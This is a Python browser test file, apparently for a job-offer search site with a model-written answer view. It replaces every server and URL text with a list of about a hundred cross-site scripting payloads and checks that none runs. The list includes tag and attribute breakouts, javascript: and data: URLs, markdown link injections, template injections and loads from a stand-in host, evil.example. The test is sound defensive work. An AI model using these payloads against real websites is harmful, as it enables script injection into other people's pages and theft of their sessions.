"""A hundred ways to smuggle a script in, in every text that the server or the address gives the page: none may run.

The server's real answers are taken, and every text in them is replaced before the page gets them: titles, companies,
cities, texts, names of facets, the plan, the history, and what a model writes.
"""

import json
from urllib.parse import urlencode

from browser import ADDRESS, Report, Window, browser

RUN = "window.__x=1"
TAGS = [
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script src=//evil.example/x.js></script>", "<img src=x onerror={}>",
    "<img src=x onerror=\"{}\">", "<svg onload={}>", "<svg><script>{}</script></svg>", "<svg/onload={}>",
    "<body onload={}>", "<iframe src=\"javascript:{}\"></iframe>", "<iframe srcdoc=\"<script>parent.{}</script>\">",
    "<details open ontoggle={}>", "<input autofocus onfocus={}>", "<video><source onerror={}></video>",
    "<audio src=x onerror={}>", "<marquee onstart={}>", "<object data=\"javascript:{}\">", "<embed src=\"javascript:{}\">",
    "<a href=\"javascript:{}\">click</a>", "<form action=\"javascript:{}\"><button>x</button></form>",
    "<button formaction=\"javascript:{}\">x</button>", "<math><mi xlink:href=\"javascript:{}\">x</mi></math>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content=\"0;url=javascript:{}\">",
    "<base href=//evil.example/>", "<style>@import '//evil.example/x.css'</style>", "<template><img src=x onerror={}></template>",
    "<noscript><p title=\"</noscript><img src=x onerror={}>\">", "<textarea autofocus onfocus={}>",
    "<select autofocus onfocus={}>", "<x onclick={}>click", "<p style=\"animation:x\" onanimationstart={}>",
    "<svg><animate onbegin={} attributeName=x>", "<svg><a xlink:href=\"javascript:{}\"><text>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload={}>#x\">", "<svg><foreignObject><img src=x onerror={}></foreignObject></svg>",
]
BREAKOUTS = [
    "\"><img src=x onerror={}>", "'><img src=x onerror={}>", "--><img src=x onerror={}>", "</title><img src=x onerror={}>",
    "</script><script>{}</script>", "</style><script>{}</script>", "</textarea><img src=x onerror={}>", "]]><img src=x onerror={}>",
    "\" onmouseover=\"{}", "' onfocus='{}' autofocus='", "` onerror={} `", "\u0022\u0301><img src=x onerror={}>",
    "<\u0301img src=x onerror={}>", "\r\n\r\n<script>{}</script>", "\u2028<img src=x onerror={}>", "\u0000<img src=x onerror={}>",
    "\ufeff<script>{}</script>", "\u202e<script>{}</script>", "<<script>{}//<</script>", "<img src=x:x onerror\u000b={}>",
]
SCHEMES = [
    "javascript:{}", "JaVaScRiPt:{}", " javascript:{}", "java\tscript:{}", "java\nscript:{}", "\u0001javascript:{}",
    "javascript://%0a{}", "javascript:/*--></title></script>*/{}", "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQud2luZG93Ll9feD0xPC9zY3JpcHQ+", "vbscript:{}", "//evil.example/", "\\\\evil.example\\",
    "https://x\"onmouseover=\"{}", "blob:{}", "view-source:javascript:{}", "file:///etc/passwd", "jar:javascript:{}!/",
]
MODEL = [
    "![x](javascript:{})", "[x](javascript:{})", "[VIE1](javascript:{})", "<javascript:{}>", "`<img src=x onerror={}>`",
    "~~<img src=x onerror={}>~~ <b>", "[VIE<script>{}</script>]", "- <img src=x onerror={}>", "[x]: javascript:{}",
    "&lt;img src=x onerror={}&gt;", "&#60;img src=x onerror={}&#62;", "\\u003cimg src=x onerror={}\\u003e", "%3Cscript%3E{}%3C/script%3E",
]
TEMPLATES = ["{{{{constructor.constructor('{}')()}}}}", "${{{}}}", "#{{{}}}", "<%= {} %>", "{{{{{}}}}}"]
OBJECTS = ["__proto__", "constructor", "hasOwnProperty", "toString", "valueOf", "</style><svg onload={}>", "*/{}/*", "';{}//"]
PAYLOADS = [text.replace("{}", RUN) for text in TAGS + BREAKOUTS + SCHEMES + MODEL + OBJECTS] + [
    text.format(RUN) for text in TEMPLATES]
# Names whose values the page chooses by; anything else that is a text is replaced.
STRUCTURE = {"next_cursor", "conversation"}

report = Report()


class Poison:
    """Replaces every text of the server's answers, each by the next payload."""

    def __init__(self, window, start):
        self.next = start
        self.answers = {}
        window.page.route("**/v1/**", self.handle)

    def text(self):
        self.next += 1
        return PAYLOADS[self.next % len(PAYLOADS)]

    def of(self, value, name=None):
        if isinstance(value, dict):
            keeps = name in STRUCTURE
            if name == "facets":
                return {field: {self.text(): count for count in counts.values()} for field, counts in value.items()}
            return value if keeps else {key: self.of(inner, key) for key, inner in value.items()}
        if isinstance(value, list):
            return [self.of(inner, name) for inner in value]
        return self.text() if isinstance(value, str) and name not in STRUCTURE else value

    def handle(self, route):
        key = route.request.url + (route.request.post_data or "")
        if key not in self.answers:
            response = route.fetch()
            self.answers[key] = (response.status, response.headers.get("content-type", ""), response.text())
        status, kind, text = self.answers[key]
        if "event-stream" in kind:
            return route.fulfill(status=status, content_type=kind, body=self.stream(text))
        route.fulfill(status=status, content_type=kind, body=json.dumps(self.of(json.loads(text))))

    def stream(self, text):
        """The events, their names as they were; a model's words and sentences beside them."""
        lines = []
        for line in text.splitlines():
            lines.append("data: " + json.dumps(self.of(json.loads(line[5:]))) if line.startswith("data:") else line)
        words = "".join(f'event: tokens\ndata: {json.dumps({"text": self.text() + " "})}\n\n' for _ in range(10))
        claim = {"text": self.text(), "field": self.text(), "offer": None, "verdict": self.text(), "correction": self.text()}
        claims = f'event: claims\ndata: {json.dumps({"sentence": self.text(), "original": "", "claims": [claim]})}\n\n'
        return words + claims + "\n".join(lines) + "\n\n"


def look_around(window, name):
    """Nothing has run, and nothing is there that could."""
    page = window.page
    found = page.evaluate("""() => ({
      ran: window.__x, refused: window.__refused,
      scripts: document.querySelectorAll('body script, iframe, object, embed, base, style, template, video, audio, math, marquee').length,
      images: document.querySelectorAll('body img:not([src$="/icon.svg"])').length,
      handlers: [...document.querySelectorAll('*')].filter((e) => [...e.attributes].some((a) => /^on/i.test(a.name))).length,
      links: [...document.querySelectorAll('[href], [src], [action], [formaction]')].map((e) => e.getAttribute('href') ?? e.getAttribute('src') ?? '')
        .filter((a) => !a.startsWith('/') && !a.startsWith('https:') && !a.startsWith('http:') && a !== '#main'),
      outside: [...document.querySelectorAll('a[href^="//"], a[href^="http"]')].filter((a) => a.rel !== 'noopener noreferrer').length,
      polluted: ({}).polluted !== undefined,
    })""")
    report.check(not found["ran"] and window.dialogs == 0, f"{name}: a script ran")
    report.check(not found["refused"], f"{name}: the policy had to step in: {found['refused'][:3]}")
    report.check(not any(found[key] for key in ("scripts", "images", "handlers", "links", "outside", "polluted")), f"{name}: {found}")
    foreign = [one for one in window.wrongs if one.startswith("foreign")]
    report.check(not foreign, f"{name}: {foreign}")


def poisoned(chromium, name, path, until, rounds, step, then=None):
    """Opens a view again and again, each time with payloads from another place of the list."""
    window = Window(chromium)
    poison = Poison(window, 0)
    for number in range(rounds):
        poison.next = number * step
        window.page.goto(ADDRESS + path)
        window.page.wait_for_selector(until, state="attached")
        if then:
            then(window)
        window.settle()
        look_around(window, f"{name} {number}")
    errors = [one for one in window.wrongs if one.startswith("error")]
    report.check(not errors, f"{name}: {errors[:3]}")
    window.close()


def ask(window):
    window.page.evaluate("sessionStorage.clear()")
    window.page.fill("#ask-box", "Quelles missions de data en Allemagne ?")
    window.page.keyboard.press("Enter")
    window.page.wait_for_selector(".author, [role=alert]", state="attached")


def addresses(chromium):
    """The address bar: each payload as the question, as each condition, as a view."""
    window = Window(chromium)
    for number, payload in enumerate(PAYLOADS):
        names = ["q", "country", "city", "company", "min_months", "start_after", "language", "sort", "pick", "shown"]
        query = urlencode({name: payload for name in names} if number % 2 else {"q": payload})
        path = f"/?{query}" + ("&view=look" if number % 3 == 0 else "") + (f"&offer={payload}" if number % 5 == 0 else "")
        window.page.goto(ADDRESS + path.replace("#", "%23").replace(" ", "+"))
        window.page.wait_for_selector("main h1, [role=alert]", state="attached")
        window.settle()
        look_around(window, f"address {number}")
    window.close()


def control(chromium):
    """A page without our care: what these tests look for must be seen there."""
    window = Window(chromium)
    window.page.set_content(f"<img src=x onerror='{RUN}'>")
    window.page.wait_for_timeout(500)
    report.check(window.page.evaluate("window.__x") == 1, "a script that does run is seen")
    window.close()


def main():
    report.check(len(set(PAYLOADS)) >= 100, f"{len(set(PAYLOADS))} payloads")
    with browser() as chromium:
        control(chromium)
        window = Window(chromium)
        window.go("/")
        identifiers = window.page.eval_on_selector_all(".hit", "hits => hits.slice(0, 4).map((hit) => hit.dataset.id)")
        window.close()
        poisoned(chromium, "search", "/?q=data+en+Allemagne", ".hit", 12, 9)
        poisoned(chromium, "start", "/", ".hit", 6, 17)
        poisoned(chromium, "offer", f"/?offer={identifiers[0]}", "article.offer", len(PAYLOADS), 1)
        poisoned(chromium, "compare", "/?view=compare&pick=" + ",".join(identifiers), "table.compare", 12, 9)
        poisoned(chromium, "look", "/?view=look", ".dashboard", 12, 9)
        poisoned(chromium, "ask", "/?view=ask", "#ask-box", 25, 4, ask)
        addresses(chromium)
    report.end()


if __name__ == "__main__":
    main()
